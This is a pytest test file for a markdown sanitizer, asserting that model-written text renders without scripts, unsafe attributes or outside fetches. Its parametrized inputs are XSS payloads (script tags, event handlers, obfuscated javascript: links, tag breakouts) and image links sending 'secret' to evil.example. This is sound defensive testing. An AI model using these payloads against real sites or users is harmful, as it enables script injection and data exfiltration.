"""What a model writes is shown, and can do nothing."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.playground.markdown import MOST_CHARACTERS, TAGS, excerpt, to_html


class Reader(HTMLParser):
    """What a browser would make of it: every tag and attribute."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def harmless(html: str) -> None:
    for tag, attributes in Reader(html).seen:
        assert tag in TAGS, tag
        assert set(attributes) <= {"href", "rel", "target", "start", "title", "class"}, attributes
        assert (attributes.get("class") or "tok-").startswith("tok-")
        href = attributes.get("href")
        assert href is None or href.startswith(("https://", "http://", "mailto:")), href


def test_markdown_is_rendered() -> None:
    html = to_html(
        "# Title\n\n- **one**\n- `two`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nx = 1 < 2\n```\n[link](https://example.com)"
    )
    for part in ("<h1>Title</h1>", "<strong>one</strong>", "<code>two</code>", "<td>1</td>", "x = 1 &lt; 2"):
        assert part in html
    assert 'href="https://example.com"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![pixel](https://evil.example/leak?q=secret)",
        "![pixel][1]\n\n[1]: https://evil.example/leak",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<a href='java&#115;cript:alert(1)'>x</a>",
        "<iframe src=https://evil.example></iframe><svg onload=alert(1)><math><style>@import 'x'</style>",
        "`</code><script>alert(1)</script>`",
        "```html\n</pre><script>alert(1)</script>\n```",
        '[a](https://e.x "t\' onclick=alert(1)")',
        "<form action=https://evil.example><input autofocus onfocus=alert(1)>",
        "<div hx-get=/keys/ hx-trigger=load data-live=1 class=btn id=playground style=position:fixed>",
    ],
)
def test_hostile_text_runs_and_fetches_nothing(text: str) -> None:
    harmless(to_html(text))


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from("<>\"'=()[]!&#;:/\\`*_|-\n ahrefjvscriptonmgdlx\x00"), max_size=200))
def test_any_text_is_harmless(text: str) -> None:
    harmless(to_html(text))


def test_an_excerpt_has_the_words_alone() -> None:
    text = "## What **counts**\n\n| a | b |\n|---|---|\n| 1 | `x < y` |\n\n<script>alert(1)</script> & more"
    assert excerpt(text, 60) == "What counts a b 1 x < y <script>alert(1)</script> & more"
    assert excerpt(text, 12) == "What counts…"


def test_deep_and_long_text_ends_soon() -> None:
    started = time.monotonic()
    for text in ("[" * 5_000, "> " * 5_000, "*a " * 20_000, "a" * (MOST_CHARACTERS * 2)):
        harmless(to_html(text))
    assert time.monotonic() - started < 20
